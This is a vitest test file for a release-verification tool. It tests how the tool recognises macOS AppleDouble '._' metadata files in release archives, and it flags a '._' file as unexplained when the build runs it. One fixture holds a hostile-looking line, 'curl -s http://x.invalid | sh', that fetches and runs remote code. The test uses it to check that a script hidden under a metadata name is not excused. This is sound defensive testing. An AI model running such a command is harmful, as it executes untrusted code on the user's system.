import { describe, expect, it } from 'vitest'
import type { TreeEntry } from '../../src/model/tree.js'
import { gitBlobId } from '../../src/sources/archive/index.js'
import type { Difference } from '../../src/verify/compare.js'
import { appleDoubleExplainer, isAppleDouble } from '../../src/verify/explain/apple-double.js'
import { judge } from '../../src/verify/explain/judge.js'
import { fileRole } from '../../src/verify/explain/role.js'
import { memoryView as view } from '../helpers/tree-view.js'

/** An AppleDouble file as a Mac's archiver writes it: header, then entries (id, offset, length) and their data. */
function appleDouble(entries: readonly [id: number, data: Buffer][]): Buffer {
  const header = Buffer.alloc(26 + entries.length * 12)
  header.writeUInt32BE(0x00051607, 0)
  header.writeUInt32BE(0x00020000, 4)
  header.write('Mac OS X        ', 8, 'latin1')
  header.writeUInt16BE(entries.length, 24)
  let offset = header.length
  entries.forEach(([id, data], i) => {
    header.writeUInt32BE(id, 26 + i * 12)
    header.writeUInt32BE(offset, 30 + i * 12)
    header.writeUInt32BE(data.length, 34 + i * 12)
    offset += data.length
  })
  return Buffer.concat([header, ...entries.map(([, data]) => data)])
}

const finderInfo = appleDouble([
  [9, Buffer.alloc(32)],
  [2, Buffer.from('com.apple.quarantine\u00000081;6500f1c2;Safari;\u0000')],
])
const added = (path: string, content: Buffer): Difference => {
  const entry: TreeEntry = { path, kind: 'file', mode: 0o644, size: content.length, gitBlob: gitBlobId(content) }
  return { path, status: 'only-in-artifact', artifact: entry }
}

describe("a Mac's AppleDouble files in a release", () => {
  it('reads the format: magic, version, and entries inside the file', () => {
    expect(isAppleDouble(finderInfo)).toBe(true)
    expect(isAppleDouble(Buffer.from('#!/bin/sh\necho hi\n'))).toBe(false)
    // an entry that points past the end, or an id the format does not define
    const truncated = finderInfo.subarray(0, finderInfo.length - 10)
    expect(isAppleDouble(truncated)).toBe(false)
    const badId = Buffer.from(finderInfo)
    badId.writeUInt32BE(99, 26)
    expect(isAppleDouble(badId)).toBe(false)
  })

  it('explains ._NAME beside NAME, and nothing else', async () => {
    const explainer = appleDoubleExplainer()
    const artifact = { 'src/Preset.cpp': 'int preset;\n', 'src/._Preset.cpp': finderInfo }
    expect((await explainer.judge(added('src/._Preset.cpp', finderInfo), view(artifact)))?.outcome).toBe('explained')
    // the file it would describe is not in the release
    expect(await explainer.judge(added('src/._Other.cpp', finderInfo), view({ ...artifact, 'src/._Other.cpp': finderInfo }))).toBeUndefined()
    // shell under such a name is not metadata
    const script = Buffer.from('#!/bin/sh\ncurl -s http://x.invalid | sh\n')
    expect(await explainer.judge(added('src/._Preset.cpp', script), view({ ...artifact, 'src/._Preset.cpp': script }))).toBeUndefined()
    // the format under another name is not the archiver's
    expect(await explainer.judge(added('src/Preset.cpp.meta', finderInfo), view({ ...artifact, 'src/Preset.cpp.meta': finderInfo }))).toBeUndefined()
  })

  it('weighs such a file as data, unless the build reads it as code', async () => {
    expect(fileRole('build-aux/._compile', 0o755, finderInfo)).toBe('data')
    // the magic alone does not make a build file data
    expect(fileRole('configure', 0o755, finderInfo)).not.toBe('data')
    const artifact = { 'compile': '#!/bin/sh\n', '._compile': finderInfo }
    const quiet = await judge(added('._compile', finderInfo), view(artifact), [appleDoubleExplainer()], new Map())
    expect(quiet?.outcome).toBe('explained')
    const run = await judge(added('._compile', finderInfo), view(artifact), [appleDoubleExplainer()], new Map([['configure.ac', 'AC_INIT\nsh "$srcdir/._compile"\n']]))
    expect(run?.outcome).toBe('unexplained')
  })
})
